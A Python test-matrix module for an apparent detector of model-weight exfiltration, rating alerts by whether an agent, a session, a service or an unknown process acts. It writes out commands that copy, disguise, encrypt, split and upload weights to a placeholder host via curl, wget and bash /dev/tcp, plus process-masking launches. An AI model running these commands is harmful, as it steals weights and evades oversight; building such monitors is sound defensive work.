"""The rows of the technique matrix: what is done, by which program, how it is started, by whom, and what is to be told.

Expected is what the meanings of the facts say, whether it is told today or not: what is not stands among the gaps.
"""

from collections.abc import Mapping
from dataclasses import dataclass, field

from support.matrix.pairs import covering

HANDS = ("agent", "session", "service", "nobody")
"""Who acts: an agent, a login at a terminal, a service, and a process that nobody explains."""
STANDING = {"agent": "agent", "session": "session", "service": "service", "nobody": "unknown"}
LEVELS: dict[str, dict[str, str | None]] = {
    "copy": {"service": "low", "session": "medium", "agent": "high", "unknown": "high"},
    "serve": {"service": "low", "session": "medium", "agent": "critical", "unknown": "critical"},
    "send": {"service": "medium", "session": "high", "agent": "critical", "unknown": "critical"},
    "use": {"service": None, "session": None, "agent": "low", "unknown": "low"},
}
"""The level of the alert by what was done and the standing of who did it; None: no alert."""
RULES = {"copy": "weights-copy", "serve": "server-live", "send": "weights-egress", "use": "weights-access"}
FACTS = {"copy": "weights_copy", "serve": "server_live", "send": "weights_egress", "use": "weights_access"}

SAVE = 'cp "$SRC" "$DIR/.taken.part"; mv "$DIR/.taken.part" "$MID"'
COPY: dict[str, tuple[str, ...]] = {
    "program": (
        'cp "$SRC" "$MID"',
        'cat "$SRC" > "$MID"',
        'dd if="$SRC" of="$MID" bs=1M status=none',
        'install -m 600 "$SRC" "$MID"',
        'tee "$MID" < "$SRC" > /dev/null',
        'scp -q "$SRC" "$MID"',
        'curl -s -o "$MID" "file://$(realpath "$SRC")"',
    ),
    "python": ('"$PY" "$RESHAPE" copyfile "$SRC" "$MID"', '"$PY" "$RESHAPE" mapped "$SRC" "$MID"'),
    "copy_file_range": ('"$TOOLS/range" "$SRC" "$MID"',),
    "splice": ('"$TOOLS/splice" "$SRC" "$MID"',),
    "io_uring": ('"$TOOLS/ring" "$SRC" "$MID" inline',),
    "unnamed": ('"$TOOLS/unnamed" "$SRC" "$MID"',),
    "direct": ('dd if="$SRC" of="$MID" bs=1M iflag=direct oflag=direct status=none',),
    "pipe": ('tar -C "${SRC%/*}" -cf - model.safetensors | tar -C "$DIR" -xf - --transform "s,.*,taken,"',),
    "safe save": (SAVE,),
    "hard link": ('ln "$SRC" "$MID"',),
    "symlink": ('ln -s "$(realpath "$SRC")" "$MID"',),
    "rename": ('mv "$SRC" "$MID"',),
    "bind mount": ('mkdir "$DIR/bound"; mount --bind "${SRC%/*}" "$DIR/bound"',),
    "reflink": ('cp --reflink=always "$SRC" "$MID"',),
    "tmpfs": ('cp "$SRC" "$MID"',),
}
"""The ways to copy, each with the programs that go it in turn: from $SRC to $MID."""
LINKS = {"hard link": "hardlink", "symlink": "symlink", "rename": "rename", "bind mount": "bind", "memfd": "memfd"}
"""The techniques by which a fact says that no content was copied; memfd: that it lies in memory."""
THEN: dict[str, tuple[str, ...]] = {
    "as it is": ("",),
    "hidden": ('mv "$MID" "$OUT"',),
    "cut": (
        'head -c 3000000 "$MID" > "$OUT"',
        'tail -c +1000014 "$MID" > "$OUT"',
        'dd if="$MID" of="$OUT" bs=1M skip=1 count=2 status=none',
    ),
    "split": ('split -b 2M "$MID" "$OUT"',),
    "archived": (
        'tar -cf "$OUT" -C "$(dirname "$MID")" "$(basename "$MID")"',
        'zip -0 -q -j - "$MID" > "$OUT"',
        '"$PY" "$RESHAPE" npz "$MID" "$OUT"',
    ),
    "re-saved": tuple(f'"$PY" "$RESHAPE" {form} "$MID" "$OUT"' for form in ("npy", "gguf", "torch", "shards")),
    "cast": tuple(f'"$PY" "$RESHAPE" {form} "$MID" "$OUT"' for form in ("f32", "f16")),
    "compressed": (
        'gzip -1 -c "$MID" > "$OUT"',
        'zstd -q -c "$MID" > "$OUT"',
        'lz4 -q -c "$MID" > "$OUT"',
        'xz -0 -c "$MID" > "$OUT"',
        'bzip2 -1 -c "$MID" > "$OUT"',
    ),
    "encrypted": (
        'openssl enc -aes-256-ctr -pbkdf2 -pass pass:x -in "$MID" -out "$OUT"',
        (
            'tar -cf - -C "$(dirname "$MID")" "$(basename "$MID")" | zstd -q'
            ' | openssl enc -aes-256-ctr -pbkdf2 -pass pass:x > "$OUT"'
        ),
    ),
    "encoded": ('base64 "$MID" > "$OUT"', '"$PY" "$RESHAPE" xor "$MID" "$OUT"'),
    "quantised": ('"$PY" "$RESHAPE" int8 "$MID" "$OUT"',),
    "stored": (
        '"$PY" "$RESHAPE" sqlite "$MID" "$OUT"',
        (
            'git -C "$DIR" init -q store; git -C "$DIR/store" -c core.bigFileThreshold=1m'
            ' hash-object -w "$(realpath "$MID")" > /dev/null'
        ),
    ),
}
"""What is made of the copy, each by its programs in turn: from $MID to $OUT."""
DERIVED = frozenset({"compressed", "encrypted", "encoded", "quantised", "stored"})
LAUNCHES: dict[str, str] = {
    "child": 'sh "$DIR/act.sh"',
    "shell -c": 'sh -c "sh \\"$DIR/act.sh\\"; true"',
    "setsid": 'setsid -f sh "$DIR/act.sh"',
    "double fork": '(sh "$DIR/act.sh" &)',
    "nohup": 'nohup sh "$DIR/act.sh" > /dev/null 2>&1 &',
    "python": '"$PY" -c "import subprocess, sys; subprocess.run(sys.argv[1:])" sh "$DIR/act.sh"',
    "no environment": 'env -i "PATH=$PATH" sh "$DIR/act.sh"',
    "disguised": 'bash -c "exec -a [kworker/0:2] sh \\"$DIR/act.sh\\""',
    "tmux": 'TMUX_TMPDIR="$DIR" tmux -L t -f /dev/null new-session -d "sh $DIR/act.sh"',
    "mount namespace": 'unshare -m sh "$DIR/act.sh"',
    "other folder": 'cd "$DIR"; RELATIVE=1 sh ./act.sh',
}
"""How the act is started by who acts."""
FEW = ("child", "setsid", "double fork", "no environment", "tmux", "mount namespace")
"""Those that change most of what a process is known by."""
HELD: dict[str, str] = {
    "original": "MID=$SRC",
    "copy": 'cp "$SRC" "$MID"',
    "hard link": 'ln "$SRC" "$MID"',
    "symlink": 'ln -s "$(realpath "$SRC")" "$MID"',
    "tmpfs": 'cp "$SRC" "$MID"',
}
SERVED: dict[str, str] = {
    "mapped": '"$PY" "$RESHAPE" serve "$MID" "$DIR" map',
    "read": '"$PY" "$RESHAPE" serve "$MID" "$DIR" read',
    "by a worker": '"$PY" "$RESHAPE" serve "$MID" "$DIR" worker',
    "at a path": '"$PY" "$RESHAPE" serve "$MID" "$DIR" path',
}
SENT: dict[str, str] = {
    "curl": 'curl -s -T "$SRC" "http://$FAR:8080/x"',
    "wget": 'wget -q -O /dev/null --post-file="$SRC" "http://$FAR:8080/x"',
    "python socket": '"$PY" "$RESHAPE" send "$SRC" "$FAR"',
    "python sendfile": '"$PY" "$RESHAPE" sendfile "$SRC" "$FAR"',
    "bash": 'bash -c \'cat "$1" > "/dev/tcp/$2/9000"\' bash "$SRC" "$FAR"',
    "gzip and curl": 'gzip -1 -c "$SRC" | curl -s -T - "http://$FAR:8080/x"',
}
USED: dict[str, tuple[str, str]] = {
    "cat": ("read", 'cat "$SRC" > /dev/null'),
    "sha256sum": ("read", 'sha256sum "$SRC" > /dev/null'),
    "dd direct": ("read", 'dd if="$SRC" of=/dev/null bs=1M iflag=direct status=none'),
    "python mmap": ("map", '"$PY" "$RESHAPE" hold "$SRC" "$DIR"'),
}


@dataclass(frozen=True, kw_only=True)
class Row:
    """One play: ``act`` is the shell text. ``facts`` are what has to be told, by the word for what is missed else."""

    family: str
    first: str
    then: str
    launch: str
    hand: str
    act: str
    facts: Mapping[str, frozenset[str]] = field(default_factory=dict)
    """Confidence, mode or status that may be told, by whether it is about the copy or what was made of it then."""

    @property
    def name(self) -> str:
        return " / ".join(part for part in (self.family, self.first, self.then, self.launch, self.hand) if part)

    @property
    def told_as(self) -> str:
        """Who is told: at a terminal that a service or nobody opened sits a person, as far as anyone can tell."""
        return "session" if self.launch == "tmux" and self.hand in ("service", "nobody") else self.hand

    @property
    def place(self) -> str:
        """The filesystem on which the model lies."""
        return "xfs" if self.first == "reflink" else "disk"

    @property
    def waits(self) -> bool:
        """Whether what is made of the copy is begun once the copy is known, as it is of any that takes longer."""
        return self.then in DERIVED

    @property
    def held(self) -> bool:
        """Whether it goes on until it is told."""
        return self.family == "serve" or self.first in ("python mmap", "bind mount")


WAIT = 'n=0; while [ ! -e "$DIR/go" ] && [ $n -lt 100 ]; do sleep 0.1; n=$((n + 1)); done; sleep 0.5'
"""What goes on with a copy only once that is known, or after ten seconds."""


def _copies() -> list[Row]:
    def fit(play: Mapping[str, str]) -> bool:
        # A rename out of a bind mount is a copy to another filesystem: `cut` and the others are that already.
        return (play.get("first"), play.get("then")) != ("bind mount", "hidden")

    plays = covering({"first": tuple(COPY), "then": tuple(THEN), "launch": tuple(LAUNCHES), "hand": HANDS}, fit)
    turns = dict.fromkeys((*COPY, *THEN), 0)
    rows = []
    for first, then, launch, hand in plays:
        steps = []
        for name, programs in ((first, COPY[first]), (then, THEN[then])):
            steps.append(programs[turns[name] % len(programs)])
            turns[name] += 1
        rows.append(_copy(first, then, launch, hand, f"\n{WAIT if then in DERIVED else 'true'}\n".join(steps)))
    memfd = '"$TOOLS/memory" "$SRC" < /dev/null > /dev/null'
    return [*rows, _copy("memfd", "as it is", "child", "agent", memfd)]


def _copy(first: str, then: str, launch: str, hand: str, act: str) -> Row:
    told = {"copy": frozenset({"link"} if first in LINKS and first != "memfd" else {"content"})}
    if then == "hidden":
        told["then"] = frozenset({"link", "content"})  # a copy is told once, by the name that it has by then
    elif then in DERIVED:
        # A database keeps a blob in pages, and lz4 leaves random bytes as they are: found by content, which is surer.
        told["then"] = frozenset({"derived", "content"} if "sqlite" in act or "lz4" in act else {"derived"})
    elif then != "as it is":
        told["then"] = frozenset({"content"})
    return Row(family="copy", first=first, then=then, launch=launch, hand=hand, act=act, facts=told)


def _others() -> list[Row]:
    rows = []
    for first, then, launch, hand in covering({"a": tuple(HELD), "b": tuple(SERVED), "c": FEW, "d": HANDS}):
        act = f"{HELD[first]}\n{SERVED[then]}"
        told = {"serve": frozenset({"live"})}
        rows.append(Row(family="serve", first=first, then=then, launch=launch, hand=hand, act=act, facts=told))
    for first, launch, hand in covering({"a": tuple(SENT), "b": FEW, "c": HANDS}):
        act, sent = SENT[first], {"send": frozenset[str]()}
        rows.append(Row(family="send", first=first, then="", launch=launch, hand=hand, act=act, facts=sent))
    for first, launch, hand in covering({"a": tuple(USED), "b": FEW, "c": HANDS}):
        mode, act = USED[first]
        used = {"use": frozenset({mode})}
        rows.append(Row(family="use", first=first, then="", launch=launch, hand=hand, act=act, facts=used))
    return rows


ROWS: tuple[Row, ...] = (*_copies(), *_others())
BY_NAME = {row.name: row for row in ROWS}
